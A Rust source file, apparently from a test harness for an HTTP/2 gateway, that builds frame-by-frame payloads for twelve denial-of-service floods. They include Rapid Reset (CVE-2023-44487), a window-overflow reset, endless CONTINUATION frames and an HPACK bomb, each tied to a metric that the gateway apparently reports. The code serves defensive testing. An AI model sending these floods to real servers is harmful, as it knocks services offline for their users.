//! What a hostile client says, frame by frame: each is one flood, and says something new with every number.

use super::attacker::{END_HEADERS, field, frame, kind, request};

/// A flood.
#[derive(Clone, Copy, Debug)]
pub struct Flood {
    /// Its name on a command line.
    pub name: &'static str,
    /// What it is, for readers.
    pub title: &'static str,
    /// What its metric calls it.
    pub reason: &'static str,
    /// What is said for a number, from 0 on.
    pub next: fn(u32) -> Vec<u8>,
}

/// All of them.
pub const FLOODS: [Flood; 12] = [
    Flood { name: "cancel", title: "streams reset as soon as they are opened", reason: "resets", next: cancel },
    Flood { name: "overflow", title: "streams that the gateway is made to reset", reason: "resets", next: overflow },
    Flood { name: "malformed", title: "malformed requests", reason: "resets", next: malformed },
    Flood { name: "ping", title: "PING", reason: "pings", next: ping },
    Flood { name: "settings", title: "SETTINGS", reason: "settings", next: settings },
    Flood { name: "empty-data", title: "empty DATA", reason: "empty_frames", next: empty_data },
    Flood { name: "window-update", title: "WINDOW_UPDATE", reason: "window_updates", next: window_update },
    Flood { name: "priority", title: "PRIORITY", reason: "priorities", next: priority },
    Flood { name: "unknown", title: "frames of an unknown kind", reason: "unknown_frames", next: unknown },
    Flood { name: "pong", title: "answers to pings that nobody sent", reason: "unknown_frames", next: pong },
    Flood { name: "continuation", title: "empty CONTINUATION", reason: "http2_limits", next: continuation },
    Flood { name: "fields", title: "a header block without end", reason: "http2_limits", next: fields },
];

/// The flood of this name.
#[must_use]
pub fn flood(name: &str) -> Option<&'static Flood> {
    FLOODS.iter().find(|flood| flood.name == name)
}

/// The stream that a client opens so manieth.
#[must_use]
pub fn stream(number: u32) -> u32 {
    number * 2 + 1
}

/// A call without its end.
#[must_use]
pub fn open(stream: u32) -> Vec<u8> {
    frame(kind::HEADERS, END_HEADERS, stream, &request("/attack.Service/Method"))
}

/// CVE-2023-44487.
fn cancel(number: u32) -> Vec<u8> {
    [open(stream(number)), frame(kind::RST_STREAM, 0, stream(number), &[0, 0, 0, 8])].concat()
}

/// CVE-2025-8671: the client makes the server reset, with a window that overflows.
fn overflow(number: u32) -> Vec<u8> {
    let overflow = 0x7fff_ffff_u32.to_be_bytes();
    [open(stream(number)), frame(kind::WINDOW_UPDATE, 0, stream(number), &overflow)].concat()
}

/// The same with requests that are malformed (RFC 9113 8.2.2): `connection` belongs to HTTP/1.
fn malformed(number: u32) -> Vec<u8> {
    let block = [request("/attack.Service/Method"), field(b"connection", b"close")].concat();
    frame(kind::HEADERS, END_HEADERS, stream(number), &block)
}

fn ping(_: u32) -> Vec<u8> {
    frame(kind::PING, 0, 0, &[0; 8])
}

fn settings(number: u32) -> Vec<u8> {
    frame(kind::SETTINGS, 0, 0, &[&[0, 4, 0, 0, 0][..], &[number as u8]].concat())
}

fn empty_data(number: u32) -> Vec<u8> {
    if number == 0 { open(1) } else { frame(kind::DATA, 0, 1, &[]) }
}

fn window_update(_: u32) -> Vec<u8> {
    frame(kind::WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes())
}

fn priority(_: u32) -> Vec<u8> {
    frame(kind::PRIORITY, 0, 1, &[0, 0, 0, 3, 1])
}

fn unknown(_: u32) -> Vec<u8> {
    frame(kind::UNKNOWN, 0, 0, &[0; 4])
}

fn pong(_: u32) -> Vec<u8> {
    frame(kind::PING, 1, 0, &[0; 8])
}

fn continuation(number: u32) -> Vec<u8> {
    match number {
        0 => frame(kind::HEADERS, 0, 1, &request("/attack.Service/Method")),
        _ => frame(kind::CONTINUATION, 0, 1, &[]),
    }
}

fn fields(number: u32) -> Vec<u8> {
    match number {
        0 => frame(kind::HEADERS, 0, 1, &request("/attack.Service/Method")),
        _ => frame(kind::CONTINUATION, 0, 1, &field(b"x", &[b'x'; 1000])),
    }
}

/// An HPACK bomb: a field of four kilobytes that is put into the table once, and named by one byte as often as will fit.
#[must_use]
pub fn bomb() -> Vec<u8> {
    let mut bomb = request("/attack.Service/Method");
    bomb.extend([0x40, 1, b'x', 0x7f, 0xa1, 0x1e]);
    bomb.extend([b'x'; 4000]);
    bomb.extend([0xbe; 12_000]);
    frame(kind::HEADERS, END_HEADERS, 1, &bomb)
}
